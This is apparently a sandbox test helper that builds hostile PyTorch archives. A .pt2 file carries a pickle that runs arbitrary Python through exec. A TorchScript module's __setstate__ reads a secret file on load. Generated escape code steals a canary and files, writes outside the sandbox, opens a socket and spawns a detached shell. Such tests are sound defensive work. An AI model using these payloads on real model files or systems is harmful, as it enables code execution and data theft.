"""Code archives that run code when they are opened, built by the tests, as a hostile tester built them.

A torch.export archive whose weights config says ``use_pickle`` makes torch unpickle bytes the file controls:
any Python. A TorchScript module's ``__setstate__`` runs when the archive is loaded, and ``torch.from_file``
reads any file into a tensor.
"""

from __future__ import annotations

import io
import json
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

__all__ = ["escape_code", "pt2_pickle_payload", "torchscript_payload"]


def escape_code(secret_file: Path, outside_file: Path, port: int, marker: Path, other_session: Path, loot: Path) -> str:
    """Python that tries everything a sandbox must stop and writes whatever it stole to ``loot`` (in the job's own
    folder, where an attacker would pick it up with the results), then fails the load."""
    return textwrap.dedent(
        f"""
        import os, socket, subprocess
        stolen = [os.environ.get("WORKBENCH_TEST_CANARY", "")]
        for attempt in (lambda: open({str(secret_file)!r}).read(),
                        lambda: " ".join(os.listdir({str(other_session)!r}))):
            try:
                stolen.append(attempt())
            except Exception:
                pass
        try:
            open({str(outside_file)!r}, "w").write("escaped")
        except Exception:
            pass
        try:
            socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"escaped")
        except Exception:
            pass
        try:  # a process that outlives the job, and says so two seconds later
            subprocess.Popen(["/bin/sh", "-c", "sleep 2; echo survived > {marker}"], start_new_session=True)
        except Exception:
            pass
        open({str(loot)!r}, "w").write("STOLEN[" + "|".join(stolen) + "]")
        raise RuntimeError("done")
        """
    )


class _Exec:
    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (self.code,)


def pt2_pickle_payload(folder: Path, code: str) -> Path:
    """A real .pt2 of a tiny model whose first weight is switched to a pickle that runs ``code``."""
    import torch

    class Tiny(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.lin = torch.nn.Linear(4, 2)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return self.lin(x)

    folder.mkdir(parents=True, exist_ok=True)
    clean = folder / "clean.pt2"
    torch.export.save(torch.export.export(Tiny(), (torch.randn(1, 4),)), str(clean))
    evil = folder / "model.pt2"
    with zipfile.ZipFile(clean) as src, zipfile.ZipFile(evil, "w") as dst:
        config_name = next(n for n in src.namelist() if n.endswith("weights/model_weights_config.json"))
        config = json.loads(src.read(config_name))
        entry = next(iter(config["config"].values()))
        entry["use_pickle"] = True
        weight_name = config_name.rsplit("/", 1)[0] + "/" + entry["path_name"]
        buffer = io.BytesIO()
        torch.save(_Exec(code), buffer)
        for item in src.infolist():
            if item.filename == config_name:
                dst.writestr(item, json.dumps(config))
            elif item.filename == weight_name:
                dst.writestr(item, buffer.getvalue())
            else:
                dst.writestr(item, src.read(item.filename))
    clean.unlink()
    return evil


_TORCHSCRIPT = """
import sys
import torch


class Thief(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.stolen = torch.zeros(1)

    @torch.jit.export
    def __getstate__(self):
        return (self.stolen, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, bool]):
        self.training = state[1]
        self.stolen = torch.from_file(SECRET, False, SIZE, dtype=torch.uint8)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x + self.stolen.float().sum()


torch.jit.save(torch.jit.script(Thief()), sys.argv[1])
"""


def torchscript_payload(folder: Path, secret_file: Path) -> Path:
    """A TorchScript archive whose __setstate__ reads ``secret_file`` into its weights when it is loaded
    (TorchScript takes no globals, so the path is written into the source)."""
    folder.mkdir(parents=True, exist_ok=True)
    script = folder / "make_thief.py"
    size = secret_file.stat().st_size
    script.write_text(_TORCHSCRIPT.replace("SECRET", repr(str(secret_file))).replace("SIZE", str(size)))
    target = folder / "thief.pt"
    subprocess.run([sys.executable, str(script), str(target)], check=True, capture_output=True, timeout=120)
    script.unlink()
    return target
